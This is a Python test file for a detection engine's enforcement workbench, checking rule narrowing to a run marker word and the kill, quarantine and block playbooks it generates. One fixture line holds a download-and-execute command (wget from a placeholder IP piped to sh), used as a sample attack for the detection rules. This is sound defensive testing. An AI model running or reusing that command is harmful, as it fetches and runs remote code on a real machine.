"""An enforcing workbench touches what carries its run's word, and nothing else."""

from __future__ import annotations

from pathlib import Path

from tests.simulators.device_stream import benign_events
from tests.simulators.shipped import shipped_bundle

from vedette.codec import playbook as codec
from vedette.core.engine import Engine
from vedette.model.playbook import Playbooks
from vedette.model.rule import Bundle
from vedette_dev.enforcement import narrowed, playbooks_for, with_twins
from vedette_dev.responses import BELOW

ROOT = Path(__file__).parents[3]
WORD = "qzkwvxyj"
LINE = "sh -c 'wget -q -O - http://203.0.113.9/x | sh'"


def matches(bundle: Bundle, **fields: str) -> set[str]:
    return {rule.rule_id for rule in Engine(bundle).match("process_creation", fields)}


def test_an_attack_that_carries_the_word_is_found_by_the_same_rules() -> None:
    fields = {"Image": "/bin/sh", "CommandLine": f"{LINE} {WORD}", "Argv0": "sh"}
    found = matches(shipped_bundle(), **fields)
    assert found
    assert matches(narrowed(shipped_bundle(), WORD), **fields) == found


def test_a_process_below_the_runs_launcher_is_found_too() -> None:
    fields = {"Image": "/bin/sh", "CommandLine": LINE, "Ancestors": f"/init|/{WORD}abc"}
    assert matches(narrowed(shipped_bundle(), WORD), **fields) == matches(
        shipped_bundle(), **fields
    )


def test_whatever_else_happens_on_this_machine_is_found_by_no_rule() -> None:
    engine = Engine(narrowed(shipped_bundle(), WORD))
    assert matches(narrowed(shipped_bundle(), WORD), Image="/bin/sh", CommandLine=LINE) == set()
    for category, fields in benign_events(2_000, seed=7):
        assert engine.match(category, fields) == ()


def test_every_rule_can_still_be_indexed() -> None:
    engine = Engine(narrowed(shipped_bundle(), WORD))
    assert engine.refused == ()


def test_files_are_taken_and_processes_ended_and_nothing_is_aimed_higher() -> None:
    made = playbooks_for(shipped_bundle())
    steps = {(step.responder, step.aim) for one in made for step in one.steps}
    assert steps == {
        ("kill", "process"), ("quarantine", "file"), ("kill", "runner"), ("block_peer", "peer"),
    }  # fmt: skip
    of_files = {rule.rule_id for rule in shipped_bundle().rules if rule.category == "file_event"}
    for one in made:
        if (one.steps[0].responder, one.steps[0].aim) == ("kill", "process"):
            assert not of_files & set(one.rules), "the maker of a file may be the player"
    named = [rule_id for one in made for rule_id in one.rules]
    assert len(named) == len(set(named))
    rules = {rule.rule_id for rule in shipped_bundle().rules if rule.is_reported}
    assert set(named) > rules
    connections = {
        one.rule_id for one in shipped_bundle().rules if one.category == "network_connection"
    }
    for found in shipped_bundle().correlations:
        if found.rule_id in named:
            assert connections.issuperset(found.rules), "who made a file may be the player"


def test_a_parent_is_ended_only_below_a_program_of_the_runs() -> None:
    bundle = with_twins(narrowed(shipped_bundle(), WORD), WORD)
    (parents,) = [one for one in playbooks_for(bundle) if one.steps[0].aim == "parent"]
    fields = {"Image": "/bin/sh", "CommandLine": f"{LINE} {WORD}", "Argv0": "sh"}
    alone = matches(bundle, **fields, Ancestors="/init|/usr/bin/python3")
    assert alone
    assert not alone & set(parents.rules)
    below = matches(bundle, **fields, Ancestors=f"/init|/{WORD}abc")
    assert below == alone | {f"{one}{BELOW}" for one in alone}
    assert below & set(parents.rules) == {f"{one}{BELOW}" for one in alone}
    assert Engine(bundle).refused == ()


def test_who_hammers_from_outside_is_blocked_and_his_victim_is_not_killed() -> None:
    made = playbooks_for(shipped_bundle())
    (blocked,) = [one for one in made if one.steps[0].responder == "block_peer"]
    hammered = "639f4548-6d68-4da3-aefc-bb212120e342"
    assert hammered in blocked.rules
    assert not any(hammered in one.rules for one in made if one is not blocked)
    rules = {one.rule_id: one for one in shipped_bundle().rules}
    for found in shipped_bundle().correlations:
        if found.rule_id in blocked.rules:
            assert all("false" in str(rules[part].condition) for part in found.rules)


def test_a_device_reads_these_playbooks() -> None:
    made = playbooks_for(with_twins(shipped_bundle(), WORD))
    promoted = tuple(one.digest for one in made)
    data = codec.encode(Playbooks("workbench", 1, 0, 1, made, (), promoted, ""))
    assert codec.decode(data).playbooks == made
